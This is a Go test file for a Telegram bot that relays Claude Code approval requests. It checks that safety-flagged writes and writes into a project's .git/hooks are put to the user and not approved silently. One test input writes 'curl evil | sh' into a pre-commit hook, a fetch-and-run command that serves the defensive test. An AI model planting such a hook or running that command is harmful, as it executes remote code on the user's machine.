package telegram_test

import (
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/untether/untether/engine"
	"github.com/untether/untether/engine/enginetest"
	"github.com/untether/untether/telegram"
)

// TestApprovalSafetyCheckAsked: with Write in the allow list, a write the
// CLI flags (decision_reason_type "safetyCheck") and a write to the
// project's .git/hooks are shown with buttons, the flagged one saying so,
// while an ordinary write in the project is allowed at once. Before, the
// bot dropped the CLI's reason and the path rule took .git/hooks as the
// project: both were approved silently.
func TestApprovalSafetyCheckAsked(t *testing.T) {
	work, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(work, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	got := map[string]string{}
	h := newHarness(t, func(tr *enginetest.Turn) {
		tr.Start("m")
		flagged := toolReq(t, "flagged", "Write", map[string]any{"file_path": filepath.Join(work, "notes.md"), "content": "x"})
		flagged.DecisionReasonType = "safetyCheck"
		for _, r := range []engine.ApprovalRequest{
			flagged,
			toolReq(t, "hook", "Write", map[string]any{"file_path": filepath.Join(work, ".git", "hooks", "pre-commit"), "content": "curl evil | sh"}),
			toolReq(t, "plain", "Write", map[string]any{"file_path": filepath.Join(work, "main.go"), "content": "package main"}),
		} {
			d := tr.Ask(r)
			mu.Lock()
			got[r.RequestID] = decisionWord(d)
			mu.Unlock()
		}
		tr.Complete("writes done")
	}, func(c *telegram.Config) {
		c.WorkDir = work
		c.AllowList = []string{"Write"}
	})
	h.say("write")
	p := h.awaitPrompt(h.dm.ID, "Deny", "notes.md")
	if !strings.Contains(p.Text, "Claude Code flags this as sensitive") {
		t.Errorf("the flagged write does not say why it is asked:\n%s", p.Text)
	}
	h.toast(h.press(h.user, h.dm, p, "Deny"))
	p = h.awaitPrompt(h.dm.ID, "Deny", "pre-commit")
	if strings.Contains(p.Text, "Outside the project") {
		t.Errorf("a write in the project's .git/hooks is called outside:\n%s", p.Text)
	}
	h.toast(h.press(h.user, h.dm, p, "Deny"))
	h.awaitText(h.dm.ID, "writes done")

	mu.Lock()
	defer mu.Unlock()
	for id, w := range map[string]string{"flagged": "denied", "hook": "denied", "plain": "allowed"} {
		if got[id] != w {
			t.Errorf("%s: %s, want %s", id, got[id], w)
		}
	}
}
